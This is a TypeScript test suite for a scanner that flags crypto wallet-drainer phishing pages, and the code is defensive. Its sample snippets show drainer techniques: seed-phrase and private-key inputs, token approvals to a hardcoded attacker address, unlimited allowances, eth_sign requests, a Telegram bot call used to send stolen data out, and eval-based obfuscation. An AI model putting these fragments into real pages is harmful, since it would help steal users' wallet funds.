import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { analyzeContent } from '../../../src/engines/url/content/analyze.js';
import { BrandMatcher } from '../../../src/engines/url/content/brand-matcher.js';
import { extractFeatures } from '../../../src/engines/url/content/extract.js';
import { loadContentRules } from '../../../src/engines/url/content/rules.js';
import { loadProtectedTargets } from '../../../src/engines/url/similarity/protected-targets.js';
import { FIXTURES } from './helpers.js';

const rules = loadContentRules();
const brands = new BrandMatcher(loadProtectedTargets());
const page = (f: string) => readFileSync(path.join(FIXTURES, 'pages', f), 'utf8');

function run(html: string, scripts: string[] = [], official = false) {
  return analyzeContent({
    html,
    features: extractFeatures(html),
    scripts,
    rules,
    brands,
    isOfficialFor: () => official,
  });
}
const fired = (html: string, scripts: string[] = []) => run(html, scripts).findings.map((f) => f.ruleId);

const SPENDER = '0x1111111111111111111111111111111111111111';
/** One positive sample per rule: each rule must fire on its own sample. */
const SAMPLES: Record<string, { html?: string; script?: string }> = {
  'seed-phrase-input': { html: '<input name="phrase" placeholder="Secret Recovery Phrase">' },
  'seed-word-grid': {
    html: Array.from({ length: 12 }, (_, i) => `<input placeholder="Word #${i + 1}">`).join(''),
  },
  'seed-phrase-text': { html: '<p>Please enter your wallet seed phrase to continue.</p>' },
  'private-key-input': { html: '<input id="privateKey" type="password">' },
  'eth-sign-request': { script: 'ethereum.request({ method: "eth_sign", params: [a, h] })' },
  'permit-hardcoded-spender': {
    script: `const d = { primaryType: "Permit", message: { owner: a, spender: "${SPENDER}", value: v } }`,
  },
  'set-approval-for-all-hardcoded': { script: `c.setApprovalForAll("${SPENDER}", true)` },
  'approve-hardcoded-spender': { script: `token.approve("${SPENDER}", amount)` },
  'max-allowance': { script: 'token.approve(spender, ethers.constants.MaxUint256)' },
  'drainer-kit-marker': { script: '/* Inferno Drainer v3 */' },
  'telegram-exfiltration': {
    script: 'fetch("https://api.telegram.org/bot12345678:ABCDEFGHIJKLMNOPQRSTUVWXYZ/sendMessage")',
  },
  'wallet-asset-sweep': { script: `const receiver = "${SPENDER}";` },
  'heavy-obfuscation': {
    script: Array.from({ length: 45 }, (_, i) => `_0x${(0xa000 + i).toString(16)}`).join(';'),
  },
  'eval-decoder': { script: 'eval(atob("YWxlcnQoMSk="))' },
  'fake-connect-claim': { html: '<p>You are eligible to claim your airdrop allocation</p>' },
};

describe('drainer rules (data/drainer-rules.json)', () => {
  it('load, compile, and each has a test sample', () => {
    assert.ok(rules.length >= 10);
    assert.deepEqual(rules.map((r) => r.id).sort(), Object.keys(SAMPLES).sort());
  });

  for (const [id, sample] of Object.entries(SAMPLES)) {
    it(`${id} fires on its sample and not on the clean page`, () => {
      const html = `<html><body>${sample.html ?? ''}</body></html>`;
      assert.ok(fired(html, sample.script ? [sample.script] : []).includes(id), id);
      assert.ok(!fired(page('clean.html')).includes(id));
    });
  }

  it('the drainer page is convicted, the clean page is not', () => {
    const drainer = run(page('drainer.html'), [page('js/drainer.js')]);
    assert.ok(drainer.score >= 10, `score ${drainer.score}`);
    for (const id of [
      'seed-phrase-input',
      'private-key-input',
      'eth-sign-request',
      'set-approval-for-all-hardcoded',
      'telegram-exfiltration',
    ]) {
      assert.ok(
        drainer.findings.some((f) => f.ruleId === id),
        id,
      );
    }
    assert.equal(run(page('clean.html')).score, 0);
    assert.ok(run(page('seed-grid.html')).score >= 5);
    assert.ok(run(page('obfuscated.html')).findings.some((f) => f.ruleId === 'drainer-kit-marker'));
  });

  it('brand impersonation: a protected brand named on a foreign domain, not on its own', () => {
    const claims = run(page('drainer.html')).brands;
    assert.deepEqual(
      claims.map((c) => [c.brand, c.where]),
      [['MetaMask', 'title']],
    );
    assert.deepEqual(run(page('drainer.html'), [], true).brands, []);
    assert.deepEqual(run(page('clean.html')).brands, []);
  });

  it('features: title, inputs, scripts, alt texts', () => {
    const f = extractFeatures(page('drainer.html'));
    assert.equal(f.title, 'MetaMask - Restore your wallet');
    assert.deepEqual(f.scriptSrcs, ['/js/drainer.js']);
    assert.ok(f.inputs.some((i) => i.includes('name=private_key')));
    assert.deepEqual(f.imageAlts, ['MetaMask logo']);
  });
});
